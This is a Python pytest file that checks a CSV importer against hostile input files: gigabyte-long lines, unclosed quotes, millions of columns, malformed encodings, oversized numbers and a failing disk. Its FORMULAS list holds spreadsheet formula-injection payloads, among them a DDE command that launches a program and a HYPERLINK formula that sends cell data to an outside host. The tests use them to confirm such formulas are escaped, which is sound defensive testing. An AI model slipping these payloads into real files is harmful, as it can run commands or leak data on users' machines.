"""Files that mean harm are refused plainly, in bounded memory and time.

The large ones are read in a process of its own, whose memory is measured.
"""

from __future__ import annotations

import encodings.aliases
import errno
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from coprometrics.documents import structure
from coprometrics.errors import CoprometricsError, ImporterError, SourceError
from coprometrics.importers import Batch, Context, Source
from coprometrics.output.tables import escape_formula
from coprometrics_csv.importer import CsvImporter
from coprometrics_csv.mapping import Mapping

MAPPING: dict[str, Any] = {
    "record": "Income",
    "source": "finance",
    "id": {"from": ["No"]},
    "columns": [
        {"target": "received_on", "from": ["Date"], "type": "date"},
        {"target": "amount_minor", "from": ["Amount"], "type": "money", "currency": "GBP"},
        {"target": "stream", "from": ["Stream"]},
    ],
    "constants": {"kind": "fee"},
}
HEAD = "No,Date,Amount,Stream\n"
MOST_MEMORY = 1 << 30
GIGABYTE = 1 << 30

READ = """
import io, json, resource, sys, time
from pathlib import Path
from coprometrics.documents import structure
from coprometrics.errors import CoprometricsError
from coprometrics.importers import Context, Source
from coprometrics.importers.registry import Registry
from coprometrics.importers.runner import import_source
from coprometrics.store import Store
from coprometrics_csv.mapping import Mapping

path, mapping, head, pattern, size = json.loads(sys.stdin.read())


class Endless(io.RawIOBase):
    '''The head, then a pattern over and over, up to a size.'''

    def __init__(self):
        self.at = 0
    def readable(self):
        return True
    def seekable(self):
        return True
    def tell(self):
        return self.at
    def seek(self, to, whence=0):
        self.at = to
        return to
    def readinto(self, buffer):
        want = min(len(buffer), size - self.at)
        if want <= 0:
            return 0
        if self.at < len(start):
            data = start[self.at:self.at + want]
        else:
            begin = (self.at - len(start)) % len(unit)
            data = memoryview(block)[begin:begin + want]
        buffer[:len(data)] = data
        self.at += len(data)
        return len(data)


def most_memory():
    try:
        status = open("/proc/self/status").read()
    except OSError:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    # What getrusage says is at least what the process had that started this one.
    return int(status.partition("VmHWM:")[2].split()[0]) * 1024


class Made(Source):
    def open(self):
        return io.BufferedReader(Endless(), 1 << 20)


if pattern is None:
    source = Source.at(path)
else:
    start, unit = head.encode("latin-1"), pattern.encode("latin-1")
    block = unit * (1 + (2 << 20) // len(unit))
    source = Made(Path(path), "made.csv")
began = time.monotonic()
said = kind = result = None
try:
    config = structure(mapping, Mapping, "map.yaml")
    with Store.open() as store:
        result = import_source(source, Registry().importer("csv"), store, config=config,
                               context=Context(lambda _: "0" * 32))
except CoprometricsError as error:
    said, kind = str(error), type(error).__name__
print(json.dumps({
    "said": said, "kind": kind, "seconds": time.monotonic() - began,
    "memory": most_memory(),
    "rows": result and result.rows, "refused": result and result.refused,
    "codes": result and sorted(result.problems),
}))
"""


def read_apart(
    path: Path,
    *,
    head: str = "",
    pattern: str | None = None,
    size: int = 0,
    limit: int = 120,
    **changes: Any,
) -> dict[str, Any]:
    """Import a file, or one made of a pattern, in a process of its own."""
    job = json.dumps([str(path), {**MAPPING, **changes}, head, pattern, size])
    done = subprocess.run(
        [sys.executable, "-c", READ], input=job,
        capture_output=True, text=True, timeout=limit, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    assert found["memory"] < MOST_MEMORY, found
    return found


@pytest.fixture
def path(tmp_path: Path) -> Path:
    made = tmp_path / "f.csv"
    made.write_text(HEAD)
    return made


WIDE = {"record_limit": 16_777_216}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("head", "dialect"),
    [
        ("", {}),
        (HEAD, WIDE),
        (HEAD + "1,2023-01-02,1.00,talks\n", {"encodings": ["utf-8", "cp1252"]}),
    ],
)
def test_a_line_of_two_gigabytes_is_refused(path: Path, head: str, dialect: dict[str, Any]):
    found = read_apart(path, head=head, pattern="a", size=2 * GIGABYTE, dialect=dialect)
    assert found["kind"] == "SourceError"
    line = head.count("\n") + 1
    assert f"made.csv:{line}: the line has more than " in found["said"]


@pytest.mark.slow
def test_a_hole_of_two_gigabytes_is_refused(path: Path):
    os.truncate(path, 2 * GIGABYTE)
    found = read_apart(path)
    assert found["kind"] == "SourceError"
    assert "f.csv:2: the line has more than 131,072 characters" in found["said"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("pattern", "dialect"),
    [
        *(("a", {}), ("some words, and more\n", WIDE), ('""', {}), ('","', WIDE), ('","', {})),
        *(("\n", {}), ("\r", {"record_limit": 2_097_152})),
    ],
)
def test_a_quote_that_is_never_closed_is_refused(path: Path, pattern: str, dialect: dict[str, Any]):
    head = HEAD + '1,2023-01-02,1.00,talks\n2,2023-01-02,1.00,"'
    found = read_apart(path, head=head, pattern=pattern, size=100 << 20, dialect=dialect)
    if pattern == '","':
        # Every quote is closed and opened anew: it is one line, and too long.
        assert "made.csv:3: the line has more than " in found["said"]
    else:
        assert found["kind"] == "SourceError"
        assert "made.csv:3: " in found["said"]


@pytest.mark.slow
@pytest.mark.parametrize(("mark", "header"), [(",", 0), ("a,", 1), ('"",', 2)])
def test_ten_million_columns_are_refused(path: Path, mark: str, header: int):
    ids = {"columns": [], "id": {"from": ["1"]}} if header == 0 else {}
    for dialect in ({}, WIDE):
        found = read_apart(
            path, pattern=mark, size=10_000_000 * len(mark), dialect={**dialect, "header": header},
            **ids,
        )  # fmt: skip
        assert found["kind"] == "SourceError"
        wide = "made.csv:1: there are 10,000,00[01] columns, more than 100,000"
        long = "made.csv:1: the line has more than [0-9,]+ characters"
        empty = "made.csv: the file is empty"
        assert re.match(f"{long}|{wide}|{empty}", found["said"])


@pytest.mark.slow
@pytest.mark.parametrize("record_limit", [131_072, 16_777_216])
def test_rows_of_far_too_many_cells_are_refused_one_by_one(path: Path, record_limit: int):
    row = "," * (record_limit - 2) + "\n"
    found = read_apart(
        path, head=HEAD, pattern=row, size=len(HEAD) + len(row) * (100_000_000 // len(row)),
        dialect={"record_limit": record_limit},
    )  # fmt: skip
    assert found["kind"] is None
    assert found["rows"] == 100_000_000 // len(row)
    assert found["codes"] in (["long-row"], [])


@pytest.mark.slow
def test_rows_of_nothing_but_nul_are_refused_one_by_one(path: Path):
    row = "\0,\0,\0,\0\n"
    found = read_apart(path, head=HEAD, pattern=row, size=len(HEAD) + len(row) * 100_000)
    assert found["refused"] == 100_000
    assert found["codes"] == ["nul-character"]


NUMBERS = ["9" * 41, "9" * 5_000, "9" * 100_000, "-" + "9" * 5_000, "1" + ",000" * 3_000]
NUMBERS += ["9" * 19, "0." + "0" * 5_000 + "1", "1e5", "1e999999999", "0x10", "\u0663", "inf"]


@pytest.mark.parametrize("number", NUMBERS)
@pytest.mark.parametrize("type_", ["money", "int"])
def test_a_number_beyond_all_bounds_refuses_its_row(read: Callable[..., Any], number: str, type_):
    column = {"target": "amount_minor", "from": ["Amount"], "type": type_}
    if type_ == "money":
        column["currency"] = "GBP"
    mapping = {
        **MAPPING, "columns": [column, MAPPING["columns"][2]],
        "constants": {"kind": "fee"} | ({"currency": "GBP"} if type_ == "int" else {}),
    }  # fmt: skip
    result = read(f'No,Amount,Stream\n1,"{number}",talks\n', mapping)
    assert len(result.problem.message) < 300
    assert len(result.problem.value or "") < 100


@pytest.mark.parametrize(
    "text", ["99999-01-01", "0000-01-01", "2023-02-30", "9" * 10_000, "2023-01-01" * 1_000]
)
def test_a_date_beyond_all_bounds_refuses_its_row(read: Callable[..., Any], text: str):
    result = read(f"{HEAD}1,{text},1.00,talks\n", MAPPING)
    assert result.problem.code in ("not-a-date", "no-such-date")
    assert len(result.problem.value) < 100


@pytest.mark.parametrize(
    "data",
    [
        b"\xff", b"\xc3", b"\xc0\xaf", b"\xf5\x80\x80\x80", b"\xf8\x88\x80\x80\x80",
        b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb8\x80", b"\xed\xbf\xbf", b"\xf4\x90\x80\x80",
    ],
    ids=lambda data: data.hex(),
)  # fmt: skip
def test_bytes_that_are_no_utf_8_refuse_the_file(read: Callable[..., Any], data: bytes):
    with pytest.raises(SourceError, match=r"t\.csv:3: this is not utf-8: (byte 6[0-9]|the file)"):
        read(f"{HEAD}1,2023-01-02,1.00,talks\n2,2023-01-02,1.00,".encode() + data, MAPPING)
    with pytest.raises(SourceError, match="this is not utf-8"):
        read(data + HEAD.encode(), MAPPING)


@pytest.mark.parametrize("data", [b"\x00\xd8", b"\x00\xdc", b"\x3d\xd8a\x00", b"\x00"])
def test_half_a_surrogate_pair_refuses_the_file(read: Callable[..., Any], data: bytes):
    text = f"{HEAD}1,2023-01-02,1.00,".encode("utf-16-le")
    with pytest.raises(SourceError, match="this is not utf-16-le"):
        read(b"\xff\xfe" + text + data, MAPPING)


ODD = [b"\xff\xfe\xfd", b"\\ud800,\\x", b"+2AA-,+", b"xn--a", b"\x1b$B!", b"~{", b"&#xD800;", b"%"]


@pytest.mark.filterwarnings("ignore:.*invalid.*escape:DeprecationWarning")
@pytest.mark.parametrize("name", sorted({*encodings.aliases.aliases.values(), "idna", "punycode"}))
def test_whatever_encoding_is_declared_only_errors_of_importers_come_out(tmp_path: Path, name: str):
    try:
        config = structure({**MAPPING, "dialect": {"encodings": [name]}}, Mapping, "m")
    except CoprometricsError:
        return
    for data in ODD:
        for text in (data, HEAD.encode() + data, HEAD.encode() + b"1,2023-01-02,1.00," + data):
            path = tmp_path / "f.csv"
            path.write_bytes(text)
            try:
                list(CsvImporter().read(Source.at(path), config, Context(lambda _: "0" * 32)))
            except ImporterError as error:
                str(error).encode()


FORMULAS = [
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_a_text_like_any_other_and_is_escaped_on_its_way_out(
    read: Callable[..., Any], awards: Callable[..., Any], formula: str
):
    mapping = {**awards("Organisation", target="name"), "constants": {"kind": "charity"}}
    quoted = formula.replace('"', '""')
    result = read(f'id,value\n1,"{quoted}"\n', mapping)
    assert result.record.name == formula.strip()
    assert escape_formula(result.record.name) == "'" + formula.strip()


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_no_number_and_no_date(read: Callable[..., Any], formula: str):
    quoted = formula.replace('"', '""')
    result = read(f'{HEAD}1,"{quoted}","{quoted}",talks\n', MAPPING)
    (refusal,) = result.refusals
    assert {problem.code for problem in refusal.problems} == {"not-a-date", "not-an-amount"}
    assert result.batches == []


@pytest.mark.parametrize("place", ["/dev/zero", "/dev/null"])
def test_what_is_no_file_is_not_read(place: str):
    if not Path(place).exists():
        pytest.skip("it is not on this system")
    with pytest.raises(SourceError, match="neither a file nor a folder"):
        Source.at(place)


class Failing(io.RawIOBase):
    """A file on a disk that fails after a while."""

    def __init__(self, data: bytes, good: int) -> None:
        self._file = io.BytesIO(data)
        self._good = good

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        if self._file.tell() >= self._good:
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        return self._file.readinto(memoryview(buffer)[: self._good - self._file.tell()])

    def seekable(self) -> bool:
        return True

    def seek(self, to: int, whence: int = 0) -> int:
        return self._file.seek(to, whence)

    def tell(self) -> int:
        return self._file.tell()


class OnFailingDisk(Source):
    """A source of which only the first part can be read."""

    def open(self) -> Any:
        data = HEAD.encode() + b"1,2023-01-02,1.00,talks\n" * 100_000
        return io.BufferedReader(Failing(data, 2_000_000))


@pytest.mark.parametrize("encodings", [["utf-8"], ["utf-8", "cp1252"]])
def test_a_disk_that_fails_is_told(path: Path, encodings: list[str]):
    config = structure({**MAPPING, "dialect": {"encodings": encodings}}, Mapping, "m")
    with pytest.raises(SourceError, match=r"^f\.csv: cannot be read \(Input/output error\)"):
        list(CsvImporter().read(OnFailingDisk(path, "f.csv"), config, Context(lambda _: "0" * 32)))


def test_a_batch_never_holds_what_the_file_does_not(read: Callable[..., Any]):
    """Cells are what stands between the delimiters, also next to rows that are refused."""
    rows = [f"{number},2023-01-02,{number}.00,talks\n" for number in range(200)]
    rows[50] = "50,2023-01-02,\0,talks\n"
    rows[51] = '51,2023-01-02,"5"1.00,talks\n'
    rows[52] = "52,2023-01-02\n"
    result = read(HEAD + "".join(rows), MAPPING)
    assert [refusal.at.line for refusal in result.refusals] == [52, 53, 54]
    expected = [number * 100 for number in range(200) if number not in (50, 51, 52)]
    assert [record.amount_minor for record in result.records] == expected
    assert all(isinstance(batch, Batch) for batch in result.batches)
